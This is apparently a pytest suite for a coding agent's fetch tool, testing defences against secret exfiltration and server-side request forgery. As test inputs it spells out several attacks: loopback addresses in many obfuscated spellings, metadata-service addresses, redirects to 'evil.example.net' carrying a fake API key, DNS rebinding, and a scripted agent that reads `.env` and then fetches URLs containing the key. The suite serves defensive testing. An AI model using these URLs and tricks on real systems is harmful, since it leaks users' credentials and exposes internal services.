"""SPEC 5 fetch, issue 26 item 3: a URL can carry a secret out, and a local service must stay out of reach.

Each attack points fetch at a real listener on 127.0.0.1 and asserts what reached it (nothing, outside yolo and
``fetch.allow_private``) and what the model was told. The DNS-based variants use a fake resolver (the DNS answer)
and a fake route (``FakeNat``: the public address a fake name resolves to is served by a local server), the two ends
``FetchTool`` lets a test replace; everything between them, the checks and the connection, is the real code.
"""

from __future__ import annotations

import ipaddress
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest

from engine.errors import ToolError
from engine.interaction import ApprovalDecision
from engine.modes import Mode
from engine.tools.base import ToolContext
from engine.tools.fetch import FetchTool
from engine.tools.fetch_address import why_private
from engine.tools.guard import Workspace
from tests.engine.tools.support import run_tool
from tests.headless.test_headless_cli import run_cli
from tests.support.fakes import close_orchestrators  # noqa: F401 (autouse fixture)
from tests.support.fakes import FakeInteraction, make_orchestrator
from tests.support.scenario import reply, text, tool_call
from tests.support.scripted_server import ScriptedServer

SECRET = "sk-live-0123456789"
PUBLIC_IP = "93.184.216.34"


class Listener:
    """A local HTTP service that records every request it gets (path included: the secret would be there)."""

    def __init__(self, host: str = "127.0.0.1", routes: dict[str, tuple[int, dict[str, str], bytes]] | None = None):
        self.seen: list[str] = []
        seen, table = self.seen, routes or {}

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - the http.server API
                seen.append(self.path)
                status, headers, body = table.get(self.path, (200, {"Content-Type": "text/plain"}, b"internal data"))
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer((host, 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


class FakeNat(httpx.AsyncBaseTransport):
    """The route to a fake public address: a request sent to ``PUBLIC_IP`` is delivered to a local server. Records
    the address of every request it carries, which is where the real connection would have gone."""

    def __init__(self, public_port: int) -> None:
        self.public_port = public_port
        self.addresses: list[str] = []
        self._inner = httpx.AsyncHTTPTransport()

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        self.addresses.append(request.url.host)
        if request.url.host == PUBLIC_IP:
            request.url = request.url.copy_with(host="127.0.0.1", port=self.public_port)
        return await self._inner.handle_async_request(request)

    async def aclose(self) -> None:
        await self._inner.aclose()


class FakeDns:
    """Answers from a table; a list of answers is served one per lookup (a name that rebinds)."""

    def __init__(self, table: dict[str, list[list[str]]]) -> None:
        self.table = table
        self.lookups: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.lookups.append(host)
        try:
            return [str(ipaddress.ip_address(host))]
        except ValueError:
            pass
        answers = self.table[host]
        return answers.pop(0) if len(answers) > 1 else answers[0]


class Gate:
    def __init__(self, *, hosts: set[str] | None = None, private: bool = False) -> None:
        self.hosts, self.private = hosts, private

    def host_allowed(self, host: str) -> bool:
        return self.hosts is None or host in self.hosts

    def private_allowed(self) -> bool:
        return self.private

    def address_denied(self, address: str) -> str | None:
        return None


def _ctx(tmp_path: Path, gate: Gate | None = None) -> ToolContext:
    return ToolContext(workspace=Workspace(tmp_path), fetch_gate=gate or Gate())


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("127.0.0.1", "loopback"),
        ("127.255.0.9", "loopback"),
        ("10.1.2.3", "private"),
        ("172.16.0.1", "private"),
        ("192.168.1.1", "private"),
        ("169.254.169.254", "link-local"),
        ("100.100.100.200", "not on the public internet"),
        ("0.0.0.0", "unspecified"),
        ("224.0.0.1", "multicast"),
        ("::1", "loopback"),
        ("::", "unspecified"),
        ("fe80::1", "link-local"),
        ("fd00:ec2::254", "private"),
        ("::ffff:127.0.0.1", "carries the IPv4 address 127.0.0.1"),
        ("::ffff:169.254.169.254", "carries the IPv4 address 169.254.169.254"),
        ("::127.0.0.1", "carries the IPv4 address 127.0.0.1"),
        ("64:ff9b::a9fe:a9fe", "carries the IPv4 address 169.254.169.254"),
        ("2002:7f00:1::", "carries the IPv4 address 127.0.0.1"),
        ("2001:0:4136:e378:8000:63bf:80ff:fffe", "carries the IPv4 address 127.0.0.1"),
    ],
)
def test_every_non_public_address_has_a_reason(address: str, words: str) -> None:
    reason = why_private(ipaddress.ip_address(address))
    assert reason is not None and words in reason


@pytest.mark.parametrize("address", ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "::ffff:93.184.216.34"])
def test_public_addresses_pass(address: str) -> None:
    assert why_private(ipaddress.ip_address(address)) is None


@pytest.mark.parametrize(
    "host",
    ["127.0.0.1", "localhost", "2130706433", "0x7f.1", "017700000001", "127.1", "0177.0.0.1", "[::ffff:127.0.0.1]",
     "[::ffff:7f00:1]", "0.0.0.0"],
)
async def test_loopback_in_any_spelling_is_refused_and_the_listener_sees_nothing(
    tmp_path: Path, listener: Listener, host: str
) -> None:
    with pytest.raises(ToolError, match="refused to fetch from|Invalid IPv4 address"):
        await run_tool(FetchTool(), _ctx(tmp_path), url=f"http://{host}:{listener.port}/?ref={SECRET}")
    assert listener.seen == []


async def test_a_name_resolving_to_a_private_address_is_refused(tmp_path: Path, listener: Listener) -> None:
    for answer in (["127.0.0.1"], ["169.254.169.254"], [PUBLIC_IP, "10.0.0.5"], ["::ffff:127.0.0.1"]):
        dns = FakeDns({"innocent.example.com": [answer]})
        nat = FakeNat(listener.port)
        tool = FetchTool(resolver=dns, transport=nat)
        with pytest.raises(ToolError, match=r"refused to fetch from innocent\.example\.com \("):
            await run_tool(tool, _ctx(tmp_path), url=f"http://innocent.example.com:{listener.port}/?q={SECRET}")
        assert nat.addresses == []
    assert listener.seen == []


async def test_a_redirect_from_a_public_name_to_loopback_is_refused(tmp_path: Path, listener: Listener) -> None:
    """The public page answers 302 to the local service, directly or through a name that resolves there."""
    local = f"http://127.0.0.1:{listener.port}/steal?{SECRET}"
    public = Listener(routes={
        "/to-ip": (302, {"Location": local}, b""),
        "/to-name": (302, {"Location": f"http://internal.example.com:{listener.port}/x?{SECRET}"}, b""),
        "/to-v6": (302, {"Location": f"http://[::ffff:127.0.0.1]:{listener.port}/"}, b""),
    })
    try:
        for path in ("/to-ip", "/to-name", "/to-v6"):
            dns = FakeDns({"docs.example.com": [[PUBLIC_IP]], "internal.example.com": [["127.0.0.1"]]})
            nat = FakeNat(public.port)
            tool = FetchTool(resolver=dns, transport=nat)
            with pytest.raises(ToolError, match="refused to fetch from"):
                await run_tool(tool, _ctx(tmp_path), url=f"http://docs.example.com{path}")
            assert nat.addresses == [PUBLIC_IP]
        assert public.seen == ["/to-ip", "/to-name", "/to-v6"]
    finally:
        public.close()
    assert listener.seen == []


async def test_the_connection_goes_to_the_address_that_was_checked(tmp_path: Path, listener: Listener) -> None:
    """DNS rebinding: the name answers public once, then loopback. It is looked up once per hop, and the request
    goes to the public address that was checked, with the name in Host."""
    public = Listener(routes={"/": (200, {"Content-Type": "text/plain"}, b"public page")})
    try:
        dns = FakeDns({"rebind.example.com": [[PUBLIC_IP], ["127.0.0.1"]]})
        nat = FakeNat(public.port)
        tool = FetchTool(resolver=dns, transport=nat)
        output = await run_tool(tool, _ctx(tmp_path), url="http://rebind.example.com/")
    finally:
        public.close()
    assert output.data["content"] == "public page"
    assert output.data["url"] == "http://rebind.example.com/"
    assert dns.lookups == ["rebind.example.com"]
    assert nat.addresses == [PUBLIC_IP]
    assert listener.seen == []


async def test_a_redirect_to_a_host_not_allowed_is_not_followed(tmp_path: Path) -> None:
    """An open redirect on an allowed host cannot carry the URL's data to another host in plan and default."""
    other = Listener()
    public = Listener(routes={"/go": (302, {"Location": f"http://evil.example.net:{other.port}/?{SECRET}"}, b"")})
    try:
        dns = FakeDns({"docs.example.com": [[PUBLIC_IP]], "evil.example.net": [[PUBLIC_IP]]})
        tool = FetchTool(resolver=dns, transport=FakeNat(public.port))
        with pytest.raises(ToolError, match="redirected to .*evil.example.net, a host not allowed yet"):
            await run_tool(tool, _ctx(tmp_path, Gate(hosts={"docs.example.com"})), url="http://docs.example.com/go")
        assert public.seen == ["/go"]
        assert dns.lookups == ["docs.example.com"]
    finally:
        public.close()
        other.close()


async def test_allow_private_reaches_a_local_service(tmp_path: Path, listener: Listener) -> None:
    output = await run_tool(FetchTool(), _ctx(tmp_path, Gate(private=True)), url=f"http://localhost:{listener.port}/a")
    assert output.data["content"] == "internal data"
    assert listener.seen == ["/a"]


# -- Through the whole agent --------------------------------------------------------------------------------------


def _tool_results(server: ScriptedServer) -> dict[str, dict]:
    messages = server.requests[-1].body["messages"]
    return {m["tool_call_id"]: json.loads(m["content"]) for m in messages if m["role"] == "tool"}


SPELLINGS = ["127.0.0.1", "localhost", "2130706433", "0x7f.1", "017700000001", "127.1", "[::ffff:127.0.0.1]"]


@pytest.mark.parametrize("mode", ["plan", "default", "auto-edit"])
def test_headless_fetch_of_a_local_service_reaches_nothing(
    tmp_path: Path, scripted_server: ScriptedServer, listener: Listener, mode: str
) -> None:
    """The issue's attack: read `.env`, then fetch a local URL carrying the secret. Plan and default ask (and a
    headless run cannot answer, so it is refused); auto-edit allows public hosts but refuses every local address."""
    (tmp_path / ".env").write_text(f"API_KEY={SECRET}\n")
    calls = [tool_call("fetch", id=f"f{i}", url=f"http://{host}:{listener.port}/?ref={SECRET}")
             for i, host in enumerate(SPELLINGS)]
    scripted_server.add(reply(tool_call("read", id="r", path=".env")), reply(*calls), text("done"))
    done = run_cli(["--mode", mode, "-p", "summarise the env"], tmp_path, scripted_server)
    assert done.returncode == 0, done.stderr
    results = _tool_results(scripted_server)
    assert SECRET in results["r"]["content"]
    for index in range(len(SPELLINGS)):
        result = results[f"f{index}"]
        assert result["ok"] is False
        expected = "refused to fetch from" if mode == "auto-edit" else "needs the user's approval"
        assert expected in result["error"], result
    assert listener.seen == []


def test_headless_yolo_and_allow_private_do_reach_it(
    tmp_path: Path, scripted_server: ScriptedServer, listener: Listener
) -> None:
    """The contrast that shows the listener would have seen the attack: yolo reaches a local service, and so does
    auto-edit once the user's config sets fetch.allow_private."""
    scripted_server.add(reply(tool_call("fetch", id="y", url=f"http://127.0.0.1:{listener.port}/yolo")), text("ok"))
    assert run_cli(["--mode", "yolo", "-p", "go"], tmp_path, scripted_server).returncode == 0
    config = tmp_path / ".xdg" / "coder" / "config.json"  # the first run made the folder (the user's state key)
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text(json.dumps({"fetch": {"allow_private": True}}))
    scripted_server.add(reply(tool_call("fetch", id="p", url=f"http://localhost:{listener.port}/private")), text("ok"))
    assert run_cli(["--mode", "auto-edit", "-p", "go"], tmp_path, scripted_server).returncode == 0
    assert listener.seen == ["/yolo", "/private"]
    assert _tool_results(scripted_server)["p"]["content"] == "internal data"


async def test_always_allows_the_host_for_the_session_and_here_saves_it(
    tmp_path: Path, scripted_server: ScriptedServer, listener: Listener
) -> None:
    """`a` on the first fetch of a host: later fetches of that host do not ask, another host still does; `p` writes
    permissions.fetch in the project's config."""
    url = f"http://localhost:{listener.port}"
    scripted_server.add(
        reply(tool_call("fetch", id="a1", url=f"{url}/one")),
        reply(tool_call("fetch", id="a2", url=f"{url}/two")),
        reply(tool_call("fetch", id="b1", url=f"http://127.0.0.1:{listener.port}/three")),
        text("done"),
    )
    interaction = FakeInteraction([ApprovalDecision.ALWAYS, ApprovalDecision.ALWAYS_PROJECT])
    orch, _, _ = make_orchestrator(
        tmp_path, scripted_server.base_url, mode=Mode.PLAN, interaction=interaction, fetch={"allow_private": True}
    )
    await orch.run_input("read the docs")
    asked = [(r.call_id, r.always_scope) for r in interaction.approval_requests]
    assert asked == [("a1", "fetch from localhost"), ("b1", "fetch from 127.0.0.1")]
    assert listener.seen == ["/one", "/two", "/three"]
    saved = json.loads((tmp_path / ".coder" / "config.json").read_text())
    assert saved["permissions"]["fetch"] == {"127.0.0.1": "allow"}
